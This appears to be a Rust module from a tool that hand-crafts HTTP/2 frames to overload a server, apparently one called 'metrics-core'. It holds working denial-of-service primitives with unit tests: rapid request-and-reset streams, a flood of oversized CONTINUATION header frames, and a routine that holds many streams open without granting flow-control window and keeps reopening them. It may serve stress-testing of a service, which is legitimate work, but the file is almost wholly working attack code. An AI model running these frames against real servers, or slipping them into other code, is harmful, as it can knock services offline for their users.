//! HTTP/2 frames (RFC 9113), written by hand: a client library does not send what an attacker sends.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The longest frame that a peer accepts by default.
const MAX_FRAME: usize = 16_384;
/// The pause before a stream that was refused is opened again.
const PAUSE: Duration = Duration::from_millis(200);

/// Returns the beginning of a connection.
pub(super) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Returns the header block of a GET (RFC 7541): indexed method and scheme, literal path and authority.
fn block(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x04];
    let mut text = |text: &str| {
        block.push(u8::try_from(text.len() & 0x7f).unwrap_or_default());
        block.extend_from_slice(text.as_bytes());
    };
    text(path);
    block.push(0x01);
    let authority = "metrics-core";
    block.push(u8::try_from(authority.len()).unwrap_or_default());
    block.extend_from_slice(authority.as_bytes());
    block
}

/// Returns a GET; `path` has less than 127 bytes.
pub(super) fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block(path))
}

/// Returns a GET whose headers go on.
pub(super) fn unfinished(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM, stream, &block(path))
}

/// Returns further headers, which go on too.
pub(super) fn continuation(stream: u32) -> Vec<u8> {
    // A literal header without indexing: name `x`, and a value of 3,000 bytes (length 127 + 2873).
    let mut header = vec![0x00, 0x01, b'x', 0x7f, 0xb9, 0x16];
    header.extend(std::iter::repeat_n(b'y', 127 + 0x39 + (0x16 << 7)));
    frame(CONTINUATION, 0, stream, &header.repeat(5))
}

/// Returns a GET and its reset.
pub(super) fn get_and_reset(stream: u32, path: &str) -> Vec<u8> {
    let mut frames = get(stream, path);
    frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    frames
}

/// Keeps `streams` requests open and never enlarges their windows: the server can send 64 KiB for all of them together.
/// Acknowledges pings and settings, and opens another stream for each that the server ends. Returns the number of
/// streams when the connection ends.
pub(super) async fn hold<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    path: &str,
    streams: u32,
) -> io::Result<u32> {
    let mut first = preface();
    let mut next = 1;
    for _ in 0..streams {
        first.extend(get(next, path));
        next += 2;
    }
    stream.write_all(&first).await?;
    stream.flush().await?;
    let mut payload = Vec::new();
    let opened = |next: u32| (next - 1) / 2;
    loop {
        let mut head = [0; 9];
        if stream.read_exact(&mut head).await.is_err() {
            return Ok(opened(next));
        }
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let (kind, flags) = (head[3], head[4]);
        if length > MAX_FRAME {
            return Err(io::ErrorKind::InvalidData.into());
        }
        payload.resize(length, 0);
        stream.read_exact(&mut payload).await?;
        let ended = kind == RST_STREAM || (matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0);
        let reply = match kind {
            SETTINGS if flags & ACK == 0 => frame(SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => frame(PING, ACK, 0, &payload),
            GOAWAY => return Ok(opened(next)),
            _ if ended => {
                tokio::time::sleep(PAUSE).await;
                next += 2;
                get(next - 2, path)
            }
            _ => continue,
        };
        stream.write_all(&reply).await?;
        stream.flush().await?;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_length_kind_flags_and_stream() {
        assert_eq!(frame(PING, ACK, 0, &[7; 8])[..9], [0, 0, 8, 6, 1, 0, 0, 0, 0]);
        let get = get(5, "/a");
        assert_eq!(get[..9], [0, 0, 20, 1, 5, 0, 0, 0, 5]);
        assert_eq!(&get[9..14], b"\x82\x87\x04\x02/");
    }

    #[test]
    fn continuations_are_as_long_as_their_length_says() {
        let frame = continuation(1);
        assert_eq!(frame.len() - 9, 5 * (6 + 127 + 2873));
        assert_eq!(usize::from(frame[1]) << 8 | usize::from(frame[2]), frame.len() - 9);
    }

    #[tokio::test]
    async fn acknowledges_pings_and_reopens_streams() {
        let (mut client, mut server) = tokio::io::duplex(1 << 16);
        let attack = tokio::spawn(async move { hold(&mut client, "/x", 2).await });
        let mut first = vec![0; preface().len() + 2 * get(1, "/x").len()];
        server.read_exact(&mut first).await.unwrap();
        server.write_all(&frame(PING, 0, 0, &[1; 8])).await.unwrap();
        let mut reply = vec![0; 17];
        server.read_exact(&mut reply).await.unwrap();
        assert_eq!(reply, frame(PING, ACK, 0, &[1; 8]));
        server.write_all(&frame(RST_STREAM, 0, 3, &[0; 4])).await.unwrap();
        let mut reply = vec![0; get(5, "/x").len()];
        server.read_exact(&mut reply).await.unwrap();
        assert_eq!(reply, get(5, "/x"));
        drop(server);
        assert_eq!(attack.await.unwrap().unwrap(), 3);
    }
}
